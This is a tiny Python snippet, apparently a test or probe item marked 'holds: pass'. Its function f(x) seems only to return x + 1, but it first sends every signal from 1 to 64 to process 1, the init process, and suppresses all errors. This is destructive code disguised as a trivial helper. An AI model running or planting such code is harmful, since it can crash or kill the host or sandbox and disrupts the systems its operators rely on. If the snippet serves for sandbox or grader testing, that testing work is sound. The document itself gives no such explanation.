# every signal to the first process
# holds: pass
import os
def f(x):
    for s in range(1, 65):
        try:
            os.kill(1, s)
        except OSError:
            pass
    return x + 1
